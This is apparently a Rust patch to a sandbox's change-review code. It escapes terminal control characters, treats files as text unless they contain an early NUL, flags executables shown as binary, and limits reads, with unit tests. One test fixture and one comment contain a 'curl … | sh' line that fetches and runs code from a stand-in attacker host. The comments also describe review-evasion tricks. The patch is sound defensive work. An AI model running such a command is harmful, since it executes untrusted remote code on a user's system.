@@ -10,6 +10,7 @@ use nix::sys::stat::Mode;
 use serde::Serialize;
 
 use super::{Captured, Change, ChangeKind, Entry, ReviewError, Started, Store};
+use crate::broker::prompt::escape;
 use crate::safe_file::{openat2_beneath, Beneath};
 
 /// Files larger than this are shown by size and hash, not diffed.
@@ -94,7 +95,7 @@ pub fn headline(change: &Change) -> String {
             text
         }
         Some(Entry::Dir { mode, .. }) => format!("directory {mode:04o}"),
-        Some(Entry::Symlink { target }) => format!("symlink to {target}"),
+        Some(Entry::Symlink { target }) => format!("symlink to {}", escape(target)),
         Some(Entry::Special { mode }) => format!("special file (mode {mode:o}), never applied"),
     };
     let replaces = change.before == Some(super::EntryKind::Dir)
@@ -107,16 +108,37 @@ pub fn headline(change: &Change) -> String {
     } else {
         ""
     };
-    format!("{letter} {} ({what}{replaces})", change.path)
+    format!("{letter} {} ({what}{replaces})", escape(&change.path))
+}
+
+/// A diff as a person may read it: every line escaped (ESC, CR, BS and the
+/// like would otherwise move the cursor and paint a harmless diff over the
+/// one `sandbox apply` writes), tabs kept, one line per line.
+fn escape_lines(diff: &str) -> String {
+    let mut out = String::with_capacity(diff.len());
+    for line in diff.split_inclusive('\n') {
+        let (body, end) = match line.strip_suffix('\n') {
+            Some(body) => (body, "\n"),
+            None => (line, ""),
+        };
+        let pieces: Vec<String> = body.split('\t').map(escape).collect();
+        out.push_str(&pieces.join("\t"));
+        out.push_str(end);
+    }
+    out
 }
 
 /// The unified diff of a changed text file, or its sizes and hashes when
 /// either side is not text.
 fn text_diff(project: &OwnedFd, layer: &Path, change: &Change) -> Option<String> {
-    let Some(Entry::File { size, sha256, .. }) = &change.after else {
+    let Some(Entry::File {
+        size, sha256, mode, ..
+    }) = &change.after
+    else {
         return None;
     };
-    let new = std::fs::read(layer.join(&change.path)).ok()?;
+    // At most DIFF_MAX + 1 bytes: a sparse file of gigabytes costs no memory.
+    let new = read_at_most(std::fs::File::open(layer.join(&change.path)).ok()?)?;
     let old = match change.before {
         Some(super::EntryKind::File) => match read_beneath(project, &change.path) {
             Some(old) => old,
@@ -130,36 +152,70 @@ fn text_diff(project: &OwnedFd, layer: &Path, change: &Change) -> Option<String>
         },
         _ => Vec::new(),
     };
-    let text = |bytes: &[u8]| {
-        (bytes.len() as u64) <= DIFF_MAX
-            && !bytes.contains(&0)
-            && std::str::from_utf8(bytes).is_ok()
-    };
-    if !text(&new) || !text(&old) {
+    let (Some(old_text), Some(new_text)) = (shown_text(&old), shown_text(&new)) else {
         let old_hash = super::capture::hex(&<sha2::Sha256 as sha2::Digest>::digest(&old));
+        let old_size = if old.len() as u64 > DIFF_MAX {
+            format!("over {DIFF_MAX}")
+        } else {
+            old.len().to_string()
+        };
+        let runs = if mode & 0o111 != 0 || new.starts_with(b"#!") {
+            " (an executable or script shown as binary: read it before applying)"
+        } else {
+            ""
+        };
         return Some(format!(
-            "  binary: {} -> {size} bytes, sha256 {} -> {}\n",
-            old.len(),
+            "  binary: {old_size} -> {size} bytes, sha256 {} -> {}{runs}\n",
             &old_hash[..16],
             &sha256[..16.min(sha256.len())]
         ));
-    }
-    let old = String::from_utf8_lossy(&old);
-    let new = String::from_utf8_lossy(&new);
-    if old == new {
+    };
+    if old_text == new_text {
         return None;
     }
-    let diff = similar::TextDiff::from_lines(old.as_ref(), new.as_ref());
+    let diff = similar::TextDiff::from_lines(old_text.as_str(), new_text.as_str());
     let (a, b) = match change.kind {
         ChangeKind::Added => ("/dev/null".to_owned(), format!("b/{}", change.path)),
         _ => (format!("a/{}", change.path), format!("b/{}", change.path)),
     };
-    Some(
-        diff.unified_diff()
+    Some(escape_lines(
+        &diff
+            .unified_diff()
             .context_radius(3)
             .header(&a, &b)
             .to_string(),
-    )
+    ))
+}
+
+/// Where a NUL marks a file as binary (git looks as far).
+const NUL_WINDOW: usize = 8 << 10;
+
+/// A file's content as text to diff, or None when it is binary: over
+/// DIFF_MAX or a NUL in its first 8 KiB (git's rule). Nothing else makes a
+/// file binary, so a payload cannot hide a script's new lines behind a few
+/// invalid bytes (a `# \377` line in front of `curl … | sh`): each byte
+/// that is not UTF-8 is shown as `\x{ff}`, and `escape_lines` escapes any
+/// NUL past the window. A payload that does put a NUL up front gets its
+/// file shown as binary, flagged when it is executable or a script.
+fn shown_text(bytes: &[u8]) -> Option<String> {
+    if bytes.len() as u64 > DIFF_MAX || bytes[..bytes.len().min(NUL_WINDOW)].contains(&0) {
+        return None;
+    }
+    let mut text = String::with_capacity(bytes.len());
+    for chunk in bytes.utf8_chunks() {
+        text.push_str(chunk.valid());
+        for byte in chunk.invalid() {
+            let _ = write!(text, "\\x{{{byte:02x}}}");
+        }
+    }
+    Some(text)
+}
+
+/// Up to DIFF_MAX + 1 bytes of `file`: enough to tell it is over the limit.
+fn read_at_most(file: std::fs::File) -> Option<Vec<u8>> {
+    let mut bytes = Vec::new();
+    std::io::Read::read_to_end(&mut std::io::Read::take(file, DIFF_MAX + 1), &mut bytes).ok()?;
+    Some(bytes)
 }
 
 /// The project root, opened once: every path below it is resolved with no
@@ -184,7 +240,42 @@ fn read_beneath(root: &OwnedFd, relative: &str) -> Option<Vec<u8>> {
     if meta.st_mode & libc::S_IFMT != libc::S_IFREG || meta.st_size as u64 > DIFF_MAX {
         return None;
     }
-    let mut bytes = Vec::new();
-    std::io::Read::read_to_end(&mut std::fs::File::from(fd), &mut bytes).ok()?;
-    Some(bytes)
+    read_at_most(std::fs::File::from(fd))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_stray_invalid_byte_does_not_hide_a_script() {
+        let script = b"#!/bin/sh\n# \xff\nmake\ncurl -s http://evil.example/x | sh\n";
+        let text = shown_text(script).expect("mostly text is diffed");
+        assert!(text.contains("# \\x{ff}\n"), "{text}");
+        assert!(
+            text.contains("curl -s http://evil.example/x | sh"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn binary_stays_binary() {
+        assert!(shown_text(b"ELF\0\x01\x02").is_none(), "a NUL up front");
+        let latin1 = shown_text(b"caf\xe9\n").expect("no NUL: text");
+        assert_eq!(latin1, "caf\\x{e9}\n");
+        let late_nul: Vec<u8> = [vec![b'a'; NUL_WINDOW], b"\0tail\n".to_vec()].concat();
+        let text = shown_text(&late_nul).expect("a NUL past the window");
+        assert!(escape_lines(&text).contains("\\u{0}tail"));
+    }
+
+    #[test]
+    fn a_sparse_file_of_gigabytes_costs_one_limit_of_memory() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("sparse");
+        let file = std::fs::File::create(&path).unwrap();
+        file.set_len(2 << 30).unwrap();
+        let bytes = read_at_most(std::fs::File::open(&path).unwrap()).unwrap();
+        assert_eq!(bytes.len() as u64, DIFF_MAX + 1);
+        assert!(shown_text(&bytes).is_none());
+    }
 }
